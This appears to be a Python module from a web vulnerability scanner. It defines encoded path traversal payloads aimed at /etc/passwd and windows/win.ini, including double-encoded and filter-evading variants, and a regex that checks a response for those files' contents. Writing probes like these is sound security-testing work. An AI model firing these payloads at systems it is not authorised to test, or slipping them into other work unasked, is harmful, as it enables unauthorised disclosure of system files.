"""Path traversals, and the content that proves that one reached a file. Pure."""

import re

from msgspec import Struct

UP = 12
"""Number of parent directories; more than needed are harmless."""
CONTENT = re.compile(r"root:[^:\s]{0,200}:0:0:|\[fonts\]|for 16-bit app support")
"""Content of /etc/passwd and win.ini."""


class TraversalForm(Struct, frozen=True, kw_only=True):
    """One form of a path traversal."""

    name: str
    raw: str
    """The value, as sent."""
    lost: str
    """The same to a file that does not exist."""
    by_default: bool = True
    """Sent without ``--exhaustive`` too."""
    only_path: bool = False
    """Redundant in a query."""

    @property
    def words(self) -> str:
        """The value, shortened."""
        return self.raw if len(self.raw) < 20 else f"{self.name}…{self.raw[-12:]}"


def _form(
    name: str, prefix: str, *, slash: str = "%2f", by_default: bool = True, only_path: bool = False
) -> TraversalForm:
    return TraversalForm(
        name=name,
        raw=f"{prefix}etc{slash}passwd",
        lost=f"{prefix}etc{slash}specdrift",
        by_default=by_default,
        only_path=only_path,
    )


FORMS = (
    _form("..%2f", "..%2f" * UP),
    _form("%2e%2e%2f", "%2e%2e%2f" * UP, only_path=True),
    _form("%2f", "%2f"),
    _form("....%2f%2f", "....%2f%2f" * UP, by_default=False),
    _form("..%252f", "..%252f" * UP, slash="%252f", by_default=False),
    TraversalForm(
        name="..%5c",
        raw="..%5c" * UP + "windows%5cwin.ini",
        lost="..%5c" * UP + "windows%5cspecdrift",
        by_default=False,
    ),
)
"""The likeliest first: relative, fully encoded, absolute, and forms that evade filters."""


def reaches_file(text: str) -> bool:
    """Return whether a response has the content of a well-known file."""
    return CONTENT.search(text) is not None
